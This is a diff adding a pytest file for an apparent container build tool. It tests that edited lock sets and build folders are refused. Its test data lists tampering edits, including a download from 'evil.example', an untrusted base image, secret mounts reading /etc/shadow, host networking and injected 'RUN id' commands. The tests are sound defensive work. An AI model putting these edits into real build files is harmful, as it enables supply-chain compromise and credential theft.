@@ -1,0 +1,275 @@
+"""A lock set whose build folder does not follow from its lock files is refused.
+
+The variants are those that reached a server, a host file or a token before, each with a root digest
+that fits. A reader of the lock files alone sees nothing of them.
+"""
+
+import json
+import os
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import msgspec
+import pytest
+from msgspec.structs import replace
+
+from orbiter.lockset import folder, model
+from orbiter.lockset.model import LockSet, LockSetError
+from orbiter.render import derived, version
+from orbiter.render.bake_file import EXPORTER
+from orbiter.render.dockerfile import TEMPLATES
+from tests.support.lock_sets import PROJECT, changed, older, small
+from tests.support.paths import ROOT
+
+DOCKERFILE = "build/debian-base/Dockerfile"
+BAKE = "build/docker-bake.json"
+ARTIFACTS = "build/debian-base/artifacts-linux-amd64.txt"
+PIP = "build/debian-base/pip-linux-amd64.txt"
+PACKAGES = "build/debian-base/packages-linux-amd64.json"
+
+Change = Callable[[LockSet], dict[str, str | None]]
+
+
+def in_dockerfile(old: str, new: str) -> Change:
+    def change(lock_set: LockSet) -> dict[str, str | None]:
+        text = lock_set.files[DOCKERFILE]
+        assert old in text
+        return {DOCKERFILE: text.replace(old, new, 1)}
+
+    return change
+
+
+def in_bake_file(edit: Callable[[dict[str, Any]], object]) -> Change:
+    def change(lock_set: LockSet) -> dict[str, str | None]:
+        content = json.loads(lock_set.files[BAKE])
+        edit(content)
+        return {BAKE: json.dumps(content, indent=2, sort_keys=True) + "\n"}
+
+    return change
+
+
+def target(content: dict[str, Any]) -> dict[str, Any]:
+    return dict.__getitem__(content["target"], "debian-base")
+
+
+def swap_packages(lock_set: LockSet) -> dict[str, str | None]:
+    """Return lists that install six in place of attrs."""
+    lines = lock_set.files[PIP].splitlines(keepends=True)
+    artifacts = lock_set.files[ARTIFACTS].splitlines(keepends=True)
+    return {
+        PIP: "".join(line for line in lines if "attrs" not in line),
+        ARTIFACTS: "".join(line for line in artifacts if "/attrs-" not in line),
+    }
+
+
+def with_file(path: str, text: str) -> Change:
+    return lambda _lock_set: {path: text}
+
+
+VARIANTS: dict[str, tuple[Change, str]] = {
+    "step with network": (in_dockerfile("RUN --network=none", "RUN"), DOCKERFILE),
+    "step with the default network": (in_dockerfile("=none", "=default"), DOCKERFILE),
+    "additional step with network": (
+        in_dockerfile("USER 0\n", "USER 0\nRUN python3 -c 'import urllib'\n"),
+        DOCKERFILE,
+    ),
+    "secret mount": (
+        in_dockerfile("--mount=type=tmpfs,target=/tmp", "--mount=type=secret,id=token"),
+        DOCKERFILE,
+    ),
+    "ssh mount": (
+        in_dockerfile("--mount=type=tmpfs,target=/tmp", "--mount=type=ssh"),
+        DOCKERFILE,
+    ),
+    "mount of another image": (
+        in_dockerfile("--mount=type=tmpfs,target=/tmp", "--mount=from=evil/image,target=/x"),
+        DOCKERFILE,
+    ),
+    "insecure step": (
+        in_dockerfile("RUN --network=none", "RUN --security=insecure --network=none"),
+        DOCKERFILE,
+    ),
+    "another base": (in_dockerfile("FROM debian-core", "FROM evil/image"), DOCKERFILE),
+    "another frontend": (
+        in_dockerfile("# debian-base,", "# syntax=evil/frontend\n# debian-base,"),
+        DOCKERFILE,
+    ),
+    "download": (in_dockerfile("USER 0\n", "USER 0\nADD https://evil.example/x /x\n"), DOCKERFILE),
+    "copy from another image": (
+        in_dockerfile("USER 0\n", "USER 0\nCOPY --from=evil/image / /\n"),
+        DOCKERFILE,
+    ),
+    "argument": (in_dockerfile("USER 0\n", "ARG TOKEN\nUSER 0\n"), DOCKERFILE),
+    "hermetic label": (in_dockerfile('hermetic="true"', 'hermetic="false"'), DOCKERFILE),
+    "end of a script by a carriage return": (
+        in_dockerfile("set -eu\n", "set -eu\nPIP\r\nRUN id\n"),
+        DOCKERFILE,
+    ),
+    "context with a host folder": (
+        in_bake_file(lambda content: target(content)["contexts"].update(host="/etc")),
+        BAKE,
+    ),
+    "variable of the environment": (
+        in_bake_file(lambda content: content["variable"].update(TOKEN={"default": ""})),
+        BAKE,
+    ),
+    "argument of the environment": (
+        in_bake_file(lambda content: target(content)["args"].update(TOKEN="${TOKEN}")),
+        BAKE,
+    ),
+    "secret": (
+        in_bake_file(lambda content: target(content).update(secret=["id=x,src=/etc/shadow"])),
+        BAKE,
+    ),
+    "ssh agent": (in_bake_file(lambda content: target(content).update(ssh=["default"])), BAKE),
+    "entitlement": (
+        in_bake_file(lambda content: target(content).update(entitlements=["network.host"])),
+        BAKE,
+    ),
+    "host network": (in_bake_file(lambda content: target(content).update(network="host")), BAKE),
+    "local output": (
+        in_bake_file(
+            lambda content: content["target"].update(
+                more={"output": ["type=local,dest=/etc"], "context": "debian-base"}
+            )
+        ),
+        BAKE,
+    ),
+    "output elsewhere": (
+        in_bake_file(lambda content: target(content).update(output=["type=local,dest=/etc"])),
+        BAKE,
+    ),
+    "another exporter": (
+        in_bake_file(
+            lambda content: target(content).update(
+                output=[target(content)["output"][0] + ",annotation.x=y"]
+            )
+        ),
+        BAKE,
+    ),
+    "bake file that is not JSON": (with_file(BAKE, "{"), BAKE),
+    "bake file with a list": (with_file(BAKE, "[]\n"), BAKE),
+    "other packages": (swap_packages, ARTIFACTS),
+    "another package list": (with_file(PACKAGES, "{}\n"), PACKAGES),
+    "additional list": (with_file("build/debian-base/more.txt", ""), "more.txt"),
+    "file among the artifacts": (
+        with_file("artifacts/debian-base/linux-amd64/pip/x.whl", "evil"),
+        "artifacts/debian-base",
+    ),
+    "file of no kind": (with_file("debian/more.txt", ""), "debian/more.txt"),
+}
+"""Edits of a lock set, each with the file that the error names."""
+
+# An older template version may have had these texts.
+ONLY_SAME_TEMPLATES: dict[str, tuple[Change, str]] = {
+    "command of a step": (in_dockerfile("set -eu\n", "set -eu\necho evil\n"), DOCKERFILE),
+    "command of the image": (in_dockerfile('CMD ["bash"]', 'CMD ["evil"]'), DOCKERFILE),
+    "missing list": (lambda _lock_set: {PIP: None}, PIP),
+}
+
+
+@pytest.mark.parametrize("name", VARIANTS)
+@pytest.mark.parametrize("lock_set", [small(), older()], ids=["same templates", "older templates"])
+def test_an_edited_build_folder_is_refused(lock_set: LockSet, name: str) -> None:
+    change, path = VARIANTS[name]
+    edited = changed(lock_set, change(lock_set))
+    assert any(path in found.path for found in derived.underivable(edited))
+    with pytest.raises(LockSetError) as caught:
+        derived.derive(edited)
+    assert caught.value.hint == derived.RELOCK
+
+
+@pytest.mark.parametrize("name", ONLY_SAME_TEMPLATES)
+def test_any_edit_is_refused_if_the_templates_are_the_same(name: str) -> None:
+    change, path = ONLY_SAME_TEMPLATES[name]
+    (found,) = derived.underivable(changed(small(), change(small())))
+    assert (found.path, found.expected) == (path, small().files[path])
+
+
+def test_a_lock_set_as_rendered_is_accepted() -> None:
+    assert derived.underivable(small()) == derived.underivable(older()) == ()
+    assert derived.derive(small()).same_templates
+    assert not derived.derive(older()).same_templates
+
+
+@pytest.mark.parametrize("release", ["0.1.0", "0.2.0"])
+def test_released_lock_sets_are_accepted_with_the_exporter_of_their_time(release: str) -> None:
+    checked = derived.derive(folder.read(ROOT / "locks" / release))
+    assert not checked.same_templates
+    assert checked.exporter == (EXPORTER[0], "rewrite-timestamp=true", *EXPORTER[1:])
+
+
+def test_lock_files_without_a_build_folder_are_refused() -> None:
+    removed: dict[str, str | None] = {path: None for path in small().files if "build/" in path}
+    paths = {found.path for found in derived.underivable(changed(small(), removed))}
+    assert paths == set(removed)
+
+
+def test_a_command_in_images_toml_cannot_leave_its_step() -> None:
+    image_set = small().image_set
+    *others, base = image_set.stages
+    broken = replace(base, postbuild=("true\nPOSTBUILD\nRUN id\nRUN <<'POSTBUILD'",))
+    files: dict[str, str | None] = {
+        "images.toml": msgspec.toml.encode(
+            replace(image_set, stages=(*others, broken)), order="sorted"
+        ).decode()
+    }
+    edited = changed(small(), files)
+    problems = [found.problem for found in derived.underivable(edited)]
+    assert any("RUN needs --network=none" in problem for problem in problems)
+
+
+def test_malformed_lock_files_are_an_error() -> None:
+    edited = changed(small(), {"debian/poetry.lock": "[[package]]\n"})
+    with pytest.raises(LockSetError, match="the lock files are malformed"):
+        derived.derive(edited)
+
+
+def test_the_template_version_follows_the_templates(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    before = version.template_version()
+    (tmp_path / "more.j2").write_text("text\n")
+    monkeypatch.setattr(version, "TEMPLATES", (*TEMPLATES, tmp_path))
+    version.template_version.cache_clear()
+    try:
+        assert version.template_version() != before
+    finally:
+        version.template_version.cache_clear()
+
+
+def orbiter(project: Path, *words: str) -> "subprocess.CompletedProcess[str]":
+    command = [sys.executable, "-m", "orbiter", *words]
+    env = {**os.environ, "DOCKER_HOST": "unix:///nowhere", "PYTHONPATH": str(ROOT)}
+    return subprocess.run(
+        command, cwd=project, env=env, capture_output=True, text=True, check=False
+    )
+
+
+def project(tmp_path: Path, lock_set: LockSet) -> Path:
+    (tmp_path / "images.toml").write_bytes((PROJECT / "images.toml").read_bytes())
+    folder.write(lock_set, tmp_path / "locks" / "0.1.0")
+    return tmp_path
+
+
+def test_every_command_that_builds_refuses_an_edited_bake_file(tmp_path: Path) -> None:
+    edited = changed(small(), {BAKE: "{"})
+    for words in (("lock", "--check"), ("build", "-q"), ("release", "-q")):
+        done = orbiter(project(tmp_path, edited), *words)
+        assert done.returncode == 2, done.stderr
+        assert f"error: {BAKE}: it differs from what the lock files give" in done.stderr
+
+
+def test_lock_check_says_which_templates_rendered_the_build_folder(tmp_path: Path) -> None:
+    assert orbiter(project(tmp_path, small()), "lock", "--check").returncode == 0
+    done = orbiter(project(tmp_path, older()), "lock", "--check")
+    assert done.returncode == 1
+    assert "stale: locks/0.1.0/build: another version of Orbiter rendered it" in done.stdout
+
+
+def test_a_template_version_is_left_out_of_a_manifest_without_one() -> None:
+    assert "templates" not in model.manifest_text(older())
+    assert f'templates = "{version.template_version()}"' in model.manifest_text(small())
